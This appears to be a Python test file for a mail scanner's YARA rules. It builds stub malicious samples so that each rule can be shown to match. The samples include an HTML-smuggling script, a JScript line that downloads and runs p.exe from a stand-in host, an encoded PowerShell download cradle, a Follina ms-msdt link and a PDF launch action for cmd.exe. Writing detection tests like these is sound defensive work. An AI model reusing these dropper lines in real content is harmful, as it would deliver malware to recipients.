"""Our YARA rule set: each rule has a sample that matches it; rules reload when files change."""

from __future__ import annotations

import base64
import os
import time
from pathlib import Path

import pytest

from mailbastion.core.errors import ConfigError
from mailbastion.engines.base import FindingKind, Part, ScanSubject
from mailbastion.engines.mime_walk import build_subject
from mailbastion.engines.yara import YaraScanner
from mailbastion.testing import av
from mailbastion.testing.clamd import EICAR


def _pe(extra: bytes = b"") -> bytes:
    pe = bytearray(b"MZ\x90\x00" + b"\0" * 0x3C)
    pe[0x3C:0x40] = (0x80).to_bytes(4, "little")
    pe += b"\0" * (0x80 - len(pe)) + b"PE\0\0" + b"\0" * 200 + extra
    return bytes(pe)


def _iso(names: bytes) -> bytes:
    data = bytearray(0x9000)
    data[0x8001:0x8006] = b"CD001"
    return bytes(data) + names


SMUGGLING = (b"<html><body><script>var d=atob('" + base64.b64encode(b"\0" * 600) + b"');"
             b"var b=new Blob([new Uint8Array(d.length)],{type:'application/octet-stream'});"
             b"var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click();"
             b"</script></body></html>")
LNK = b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 60 + "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden".encode("utf-16-le")
SCRIPT = (b'var s=new ActiveXObject("WScript.Shell");var x=new ActiveXObject("MSXML2.XMLHTTP");'
          b'x.open("GET","http://example.invalid/p.exe",false);x.send();s.Run("p.exe");')
RTF = b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}\\objdata 0105000002000000}}"
SAMPLES = {
    "MB_EICAR_Test_File": EICAR,
    "MB_HTML_Smuggling": SMUGGLING,
    "MB_Shortcut_Dropper": LNK,
    "MB_Script_Dropper": SCRIPT,
    "MB_PowerShell_Encoded_Command": b"powershell.exe -nop -enc " + base64.b64encode(b"IEX (New-Object Net.WebClient)" * 3),
    "MB_Disk_Image_With_Shortcut_Or_Program": _iso(b"INVOICE.LNK;1"),
    "MB_MSDT_Follina": b'<a href="ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=cmd">',
    "MB_PDF_Launch_Action": b"%PDF-1.5\n1 0 obj << /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>",
    "MB_RTF_Equation_Editor_Exploit": RTF,
    "MB_PE_With_Document_Icon_Name": _pe("OriginalFilename".encode("utf-16-le") + b"\0\0" + "invoice.pdf".encode("utf-16-le") + b"\0\0"),
}


@pytest.fixture(scope="module")
def yara() -> YaraScanner:
    return YaraScanner()


@pytest.mark.parametrize("rule", sorted(SAMPLES))
async def test_each_rule_matches_its_sample(yara: YaraScanner, rule: str) -> None:
    result = await yara.scan(ScanSubject(b"x", (Part("1", SAMPLES[rule]),)))
    assert rule in {f.name for f in result.findings}


async def test_exe_disguised_as_document_in_raw_mime(yara: YaraScanner) -> None:
    raw = av.WRAPPINGS["wrong_extension"](_pe(), "x")
    result = await yara.scan(ScanSubject(raw))
    assert "MB_Exe_Disguised_As_Document" in {f.name for f in result.findings}


async def test_rtl_override_is_suspicious(yara: YaraScanner) -> None:
    raw = av.WRAPPINGS["rtl_override_name"](b"hello", "x")
    result = await yara.scan(build_subject(raw))
    found = {f.name: f.kind for f in result.findings}
    assert found.get("MB_Suspicious_Bidi_Filename") is FindingKind.SUSPICIOUS


async def test_clean_files_match_nothing(yara: YaraScanner) -> None:
    subject = build_subject(av.attach([("a.pdf", "application/pdf", av.clean_pdf()),
                                       ("b.docx", "application/octet-stream", av.clean_docx()),
                                       ("c.png", "image/png", av.clean_png())]))
    assert (await yara.scan(subject)).is_clean


async def test_info_names_the_rule_set(yara: YaraScanner) -> None:
    info = await yara.info()
    assert info.vendor == "yara" and int(info.extra["rules"]) >= 12 and info.signature_date is not None


def test_site_rules_reload_on_change_and_bad_edit_keeps_old(tmp_path: Path) -> None:
    rule = tmp_path / "site.yar"
    rule.write_text('rule Site_A { strings: $a = "marker-one" condition: $a }')
    y = YaraScanner([tmp_path], include_shipped=False)
    assert y.rule_count == 1
    assert not y.reload_if_changed()
    rule.write_text('rule Site_B { strings: $a = "marker-two" condition: $a }')
    os.utime(rule, (time.time() + 5, time.time() + 5))
    assert y.reload_if_changed()
    assert [f.name for f in y._match(b"marker-two", "x")] == ["Site_B"]
    rule.write_text("rule broken {")
    os.utime(rule, (time.time() + 10, time.time() + 10))
    assert not y.reload_if_changed()
    assert [f.name for f in y._match(b"marker-two", "x")] == ["Site_B"]


def test_broken_rules_at_start_refuse(tmp_path: Path) -> None:
    (tmp_path / "bad.yar").write_text("rule broken {")
    with pytest.raises(ConfigError):
        YaraScanner([tmp_path])
